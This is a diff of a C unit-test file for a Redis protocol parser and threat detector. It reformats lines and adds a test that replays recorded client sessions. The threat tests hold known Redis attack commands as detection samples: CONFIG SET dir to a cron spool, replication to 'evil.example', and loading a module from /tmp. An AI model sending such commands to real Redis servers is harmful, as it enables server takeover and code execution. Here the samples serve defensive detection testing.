@@ -40,9 +40,11 @@ static void test_redis_threats(void **state)
 		L7_MSG(BH_NET_TO_SERVER, "*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\nDIR\r\n"
 					 "$15\r\n/var/spool/cron\r\n"),
 		L7_MSG(BH_NET_TO_SERVER, "config set maxmemory 1 dbfilename root\r\n"),
-		L7_MSG(BH_NET_TO_SERVER, "*3\r\n$7\r\nSLAVEOF\r\n$9\r\n10.9.9.9\r\r\n$4\r\n6379\r\n"),
+		L7_MSG(BH_NET_TO_SERVER,
+		       "*3\r\n$7\r\nSLAVEOF\r\n$9\r\n10.9.9.9\r\r\n$4\r\n6379\r\n"),
 		L7_MSG(BH_NET_TO_SERVER, "replicaof evil.example 21000\r\n"),
-		L7_MSG(BH_NET_TO_SERVER, "*3\r\n$6\r\nMODULE\r\n$4\r\nload\r\n$11\r\n/tmp/exp.so\r\n"),
+		L7_MSG(BH_NET_TO_SERVER,
+		       "*3\r\n$6\r\nMODULE\r\n$4\r\nload\r\n$11\r\n/tmp/exp.so\r\n"),
 	};
 	static const struct l7_msg benign[] = {
 		L7_MSG(BH_NET_TO_SERVER, "*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$3\r\ndir\r\n"),
@@ -86,20 +88,22 @@ static void test_redis_bounds(void **state)
 	/* a long argument is cut at 256 bytes; the command still ends right */
 	memset(big, 'a', sizeof(big));
 	char msg[800];
-	int n = snprintf(msg, sizeof(msg), "*2\r\n$3\r\nGET\r\n$600\r\n%.600s\r\n*1\r\n$4\r\nPING\r\n",
-			 big);
+	int n = snprintf(msg, sizeof(msg),
+			 "*2\r\n$3\r\nGET\r\n$600\r\n%.600s\r\n*1\r\n$4\r\nPING\r\n", big);
 	struct l7_msg m[] = { { BH_NET_TO_SERVER, msg, (size_t)n } };
 	l7_run(redis(), &fl, m, 1, 0, false, &log);
 	assert_int_equal(strlen(log.buf), strlen("C cmd GET|\n") + 256 + strlen("C cmd PING|\n"));
 	assert_non_null(strstr(log.buf, "C cmd PING|\n"));
 
 	static const char *const bad[] = {
-		"*2\r\n$3\r\nGET\r\n$99999999999\r\n",	 /* over 512 MiB */
-		"*2\r\n$3\r\nGET\r\n$536870913\r\n",	 /* 512 MiB + 1 */
-		"*99999999999\r\n",			 /* over INT_MAX elements */
-		"*2\r\n$3\r\nGET\r\n:1\r\n",		 /* not a bulk string */
-		"*2\r\n$3\r\nGETX\r\n",			 /* no CRLF after the bulk */
-		"*x\r\n", "*2\r\n$-5\r\n", "*2\r\n$\r\n",
+		"*2\r\n$3\r\nGET\r\n$99999999999\r\n", /* over 512 MiB */
+		"*2\r\n$3\r\nGET\r\n$536870913\r\n",   /* 512 MiB + 1 */
+		"*99999999999\r\n",		       /* over INT_MAX elements */
+		"*2\r\n$3\r\nGET\r\n:1\r\n",	       /* not a bulk string */
+		"*2\r\n$3\r\nGETX\r\n",		       /* no CRLF after the bulk */
+		"*x\r\n",
+		"*2\r\n$-5\r\n",
+		"*2\r\n$\r\n",
 	};
 	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
 		struct l7_msg b[] = { { BH_NET_TO_SERVER, bad[i], strlen(bad[i]) } };
@@ -134,13 +138,34 @@ static void test_redis_probe(void **state)
 	assert_int_equal(l7_probe(d, BH_NET_TO_CLIENT, "SSH-2.0-x\r\n", 11), BH_NET_PROBE_NO);
 }
 
+/* redis-cli 7.0 against redis-server 7.0 (tests/data/l7/record.sh) */
+static void test_redis_recorded(void **state)
+{
+	struct bh_net_flow_info fl = l7_flow(16379);
+	struct l7_msg m[32];
+	size_t n = l7_conv_load("redis", 0, m, 32);
+
+	(void)state;
+	assert_int_equal(l7_probe(redis(), BH_NET_TO_SERVER, m[0].p, m[0].n), BH_NET_PROBE_YES);
+	l7_check(redis(), &fl, m, n,
+		 "C cmd COMMAND|DOCS\n"
+		 "C cmd SET|greeting\n"
+		 "C cmd GET|greeting\n"
+		 "C cmd CONFIG|GET\n"
+		 "C cmd CONFIG|SET\n"
+		 "C threat BH-NET-REDIS-CONFIG-DIR CONFIG SET dir/dbfilename\n");
+	l7_conv_free(m, n);
+	n = l7_conv_load("redis-resp3", 0, m, 32);
+	l7_check(redis(), &fl, m, n, "C cmd HELLO|3\nC cmd PING|\n");
+	l7_conv_free(m, n);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_redis_commands),
-		cmocka_unit_test(test_redis_threats),
-		cmocka_unit_test(test_redis_bounds),
-		cmocka_unit_test(test_redis_probe),
+		cmocka_unit_test(test_redis_commands), cmocka_unit_test(test_redis_threats),
+		cmocka_unit_test(test_redis_bounds),   cmocka_unit_test(test_redis_probe),
+		cmocka_unit_test(test_redis_recorded),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
